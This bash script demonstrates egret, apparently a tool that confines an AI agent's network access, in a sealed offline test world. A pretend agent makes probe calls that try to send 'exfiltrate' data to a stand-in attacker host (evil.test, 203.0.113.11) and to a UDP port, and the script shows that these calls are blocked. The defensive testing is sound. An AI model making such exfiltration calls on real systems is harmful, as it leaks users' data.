#!/usr/bin/env bash
# demo.sh - `sudo make demo`: one attempt in a sealed, offline world.
#
# Builds two network namespaces (tests/world/world.sh): a "world" with a DNS
# server and listeners on a few documentation addresses, and a client side
# where egret runs a pretend agent that may reach github.com:80 by name and
# nothing else. Shows egret's own output, what the agent saw, what the world
# received (connections and DNS queries), and that a process outside the
# attempt (the miner) is not restricted.
set -u
cd "$(dirname "$0")/.." || exit 1
: "${EGRET:=$PWD/build/egret}" "${HELPERS:=$PWD/build/helpers}"
export HELPERS

if [ "$(id -u)" -ne 0 ]; then
	echo "demo: needs root (network namespaces, cgroups, BPF): sudo make demo" >&2
	exit 1
fi
# The agent runs as a user of its own, which no daemon shares (egret
# refuses a uid that owns processes outside the attempt).
TEST_USER=${EGRET_TEST_USER:-egret-test}
id "$TEST_USER" >/dev/null 2>&1 ||
	{ echo "demo: no user $TEST_USER (tools/install-deps.sh creates it)" >&2; exit 1; }
# shellcheck source=../tests/world/world.sh
. tests/world/world.sh
world_up || { echo "demo: could not build the demo world" >&2; exit 1; }

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

say "egret run --user $TEST_USER --allow github.com:80 --dns-upstream $WORLD_DNS -- agent"
world_exec_client "$EGRET" run -v --policy none --user "$TEST_USER" --id "demo-$$" \
	--dns-upstream "$WORLD_DNS" --allow github.com:80 -- sh -c '
	p() { "$probe" "$@" 2>/dev/null; }; probe=$1
	r() { a=$(getent ahostsv4 "$1") && echo "${a%% *}" || echo "NXDOMAIN (getent status $?)"; }
	echo "[agent] whoami: $(id -un), cgroup $(cut -d: -f3 /proc/self/cgroup | tail -n1)"
	printf "[agent] resolve github.com                 -> %s\n" "$(r github.com)"
	printf "[agent] connect github.com:80  (allowed)    -> "; p tcp-name github.com 80 GET-github
	printf "[agent] connect github.com:443 (wrong port) -> "; p tcp-name github.com 443 GET-443
	printf "[agent] resolve evil.test                  -> %s\n" "$(r evil.test)"
	printf "[agent] ask 8.8.8.8 for evil.test          -> %s\n" \
		"$(dig +time=2 +tries=1 @8.8.8.8 evil.test | sed -n "s/.*status: \([A-Z]*\).*/\1 (answered by egret)/p")"
	printf "[agent] connect 203.0.113.11:80 (evil.test by address) -> "; p tcp 203.0.113.11 80 exfiltrate
	printf "[agent] udp 198.51.100.7:9999 (not allowed) -> "; p udp 198.51.100.7 9999 exfiltrate-udp
	printf "[agent] connect 127.0.0.1:8081 (loopback)  -> "; p tcp 127.0.0.1 8081 loopback
	exit 0' agent "$HELPERS/probe"
echo "[egret] exit status $?"

say "what the world's resolver was asked during the attempt (evil.test never reached it)"
grep -o 'query\[[A-Z]*\] [^ ]*' "$WORLD_DNS_LOG" | sort | uniq -c

say "meanwhile the miner, outside the attempt, resolves evil.test and connects to it"
printf "[miner] resolve evil.test -> %s\n" \
	"$(world_exec_client dig +short +time=2 +tries=1 @"$WORLD_DNS" evil.test)"
printf "[miner] connect 203.0.113.11:80 -> "
world_exec_client "$HELPERS/probe" tcp 203.0.113.11 80 miner-is-free 2>/dev/null

say "what the world received: connections (sink log)"
sleep 0.2
grep -v '^ready' "$WORLD_LOG" | grep -v world-check || true


say "left behind: cgroups, pins, records"
find /sys/fs/bpf/egret /run/egret "$(grep -m1 ' - cgroup2 ' /proc/self/mountinfo | cut -d' ' -f5)" \
	-name "demo-$$" 2>/dev/null | grep . || echo "nothing"
